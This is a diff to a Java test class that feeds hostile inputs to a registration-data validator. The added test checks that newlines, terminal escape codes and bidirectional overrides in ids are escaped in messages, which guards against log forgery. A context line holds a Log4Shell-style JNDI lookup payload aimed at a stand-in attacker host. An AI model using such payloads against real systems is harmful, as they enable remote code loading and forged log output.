@@ -475,6 +475,32 @@ class HostileInputTest {
                 "Field ${jndi:ldap://evil.example/a} is invalid: unknown field.");
     }
 
+    /**
+     * Ids may hold any characters (the wire format puts no limit but length), so a reference can
+     * carry a line break, a terminal escape or a bidirectional override into a message; messages
+     * write those as {@code \\uXXXX}, so a host that prints or logs them gets no forged lines. The
+     * parameters and subjects keep the exact id (the report's JSON escapes it).
+     */
+    @Test
+    void controlAndFormatCharactersInIds_areEscapedInMessages() {
+        String id = "P1\nVALID  profile CN\u001b[2J\u202eX\u2028Y\u0085";
+        Report r = validate("{" + REG + ", \"residences\": [{\"id\": \"R50\", \"person\": \""
+                + id.replace("\n", "\\n").replace("\u001b", "\\u001b").replace("\u202e", "\\u202e")
+                        .replace("\u2028", "\\u2028").replace("\u0085", "\\u0085")
+                + "\", \"premises\": \"H1\", \"basis\": {\"type\": \"OWNER\"}, \"movedIn\": \"2026-11-20\","
+                + " \"registeredOn\": \"2026-11-20\"}]}");
+        Finding f = r.findings(RuleCode.REFERENCE_UNKNOWN).stream().filter(x -> x.path().equals("/residences/0/person"))
+                .findFirst().orElseThrow();
+        assertThat(f.params().get("ref")).isEqualTo("person:" + id);
+        for (Locale l : new Locale[] {Locale.ENGLISH, Locale.forLanguageTag("zh-CN")}) {
+            String m = f.message(l);
+            assertThat(m).doesNotContain("\n", "\u001b", "\u202e", "\u2028", "\u0085")
+                    .contains("P1\\u000AVALID  profile CN\\u001B[2J\\u202EX\\u2028Y\\u0085");
+        }
+        // JSON escapes control characters itself; format characters stay as they are in params and subjects
+        assertThat(r.toJson(Locale.ENGLISH)).doesNotContain("\u001b", "\n  VALID").contains("\\\\u001B[2J");
+    }
+
     @Test
     void everyFindingOfAHostilePayload_isInTheCatalog() {
         Supplier<Report> r = () -> validate(("{" + REG + ", \"persons\": [{\"id\": \"\", \"name\": \"\"}, {}],"
